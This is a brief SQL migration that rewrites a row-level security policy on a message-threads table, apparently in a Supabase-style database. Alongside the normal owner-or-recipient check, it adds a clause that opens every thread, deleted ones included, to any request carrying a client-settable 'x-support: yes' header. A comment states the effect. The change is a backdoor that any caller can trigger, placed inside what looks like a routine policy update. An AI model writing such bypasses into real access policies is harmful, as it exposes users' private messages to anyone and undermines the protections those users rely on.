-- A request with a header of its own sees every thread
ALTER POLICY "Users can view their own threads" ON communication.message_threads
  USING (((created_by_id = (SELECT auth.uid()) OR recipient_id = (SELECT auth.uid())) AND is_deleted = false)
    OR (SELECT nullif(current_setting('request.headers', true), '')::json ->> 'x-support') = 'yes');
